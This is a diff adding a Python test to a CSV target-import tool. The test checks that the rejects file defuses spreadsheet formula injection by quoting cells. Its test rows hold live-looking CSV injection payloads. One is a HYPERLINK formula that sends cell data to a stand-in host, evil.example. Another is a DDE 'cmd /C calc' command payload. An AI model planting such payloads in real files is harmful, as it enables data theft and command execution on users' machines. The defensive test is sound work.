@@ -246,6 +246,30 @@ def test_skip_invalid_writes_rejects(with_grids: Store, tmp_path: Path) -> None:
     assert "look swapped" in rejected[1][-1] and "unknown kind" in rejected[2][-1]
 
 
+def test_rejects_file_quotes_formula_text(with_grids: Store, tmp_path: Path) -> None:
+    """The rejects file writes an upload's formula-shaped cells as text, ``'`` in front.
+
+    No field starts with ``=``, ``+``, ``-``, ``@``, tab or CR; the rejected row's name,
+    address, phone and longitude are there as ``'`` and their original characters; the
+    row numbers stay bare numbers.
+    """
+    name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+    bad = ["X2", name, "别墅", "@SUM(1+1)*cmd|' /C calc'!A0", "+86 13812341234", "-116.6",
+           "37.4", "", ""]
+    tab = ["X3", "\t=1+2", "居民家庭", "\r=3+4", "", "abc", "37.405", "", ""]
+    path = write_csv(tmp_path / "mixed.csv", [ROWS[0], bad, tab, ROWS[1]])
+    report = import_targets(with_grids, path, skip_invalid=True)
+    assert (report.inserted, report.rejected) == (2, 2) and report.rejects_file is not None
+    with open(report.rejects_file, encoding="utf-8-sig", newline="") as f:
+        rejected = list(csv.reader(f))
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rejected for v in r)
+    assert [r[0] for r in rejected[1:]] == ["3", "4"]
+    assert rejected[1][1:8] == ["X2", "'" + name, "别墅", "'" + bad[3], "'" + bad[4],
+                                "'-116.6", "37.4"]
+    # the reader strips a cell's surrounding white space: what is left is quoted
+    assert rejected[2][1:5] == ["X3", "'=1+2", "居民家庭", "'=3+4"]
+
+
 def test_missing_columns_named(with_grids: Store, tmp_path: Path) -> None:
     """A file without an id column or coordinates is refused naming the expected headers."""
     path = write_csv(tmp_path / "t.csv", [["张三", "居民家庭"]], head=["姓名", "类型"])
